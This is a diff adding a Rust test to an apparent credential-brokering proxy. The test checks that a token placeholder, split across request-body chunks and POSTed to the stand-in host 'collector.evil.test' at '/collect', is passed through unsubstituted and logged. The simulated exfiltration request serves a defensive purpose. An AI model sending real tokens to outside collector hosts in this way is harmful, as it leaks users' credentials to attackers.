@@ -1675,6 +1675,46 @@ async fn a_placeholder_sent_elsewhere_goes_as_it_is_and_is_recorded() {
         let everything = serde_json::to_string(&pod.sink.json()).unwrap();
         assert!(!everything.contains(CODE_HOST_TOKEN));
     }
+    // In a request body, however it is split.
+    let pod = Pod::brokered(
+        "collector.evil.test",
+        addr,
+        &code_table(dir.path(), "Bearer", None),
+        true,
+    );
+    let chunks = [
+        Ok::<_, std::convert::Infallible>(http_body::Frame::data(Bytes::from(format!(
+            "token={}",
+            &CODE_HOST_PLACEHOLDER[..20]
+        )))),
+        Ok(http_body::Frame::data(Bytes::from(format!(
+            "{}&again={CODE_HOST_PLACEHOLDER}",
+            &CODE_HOST_PLACEHOLDER[20..]
+        )))),
+    ];
+    let body = http_body_util::StreamBody::new(futures::stream::iter(chunks))
+        .map_err(|e| match e {})
+        .boxed();
+    let req = Request::builder()
+        .method("POST")
+        .uri("/collect")
+        .body(body)
+        .unwrap();
+    pod.send(req).await;
+    let got = seen.lock().unwrap().last().unwrap().body.clone();
+    assert_eq!(
+        got,
+        format!("token={CODE_HOST_PLACEHOLDER}&again={CODE_HOST_PLACEHOLDER}").as_bytes(),
+        "it went as it was"
+    );
+    let recorded = pod.sink.kind("placeholder");
+    assert_eq!(recorded.len(), 1, "one record a body: {recorded:?}");
+    assert_eq!(
+        recorded[0]["note"],
+        "placeholder sent to collector.evil.test: it was in the request body"
+    );
+    assert_eq!(pod.counter(true), 1);
+
     // In the request target.
     let pod = Pod::brokered(
         "api.code.test",
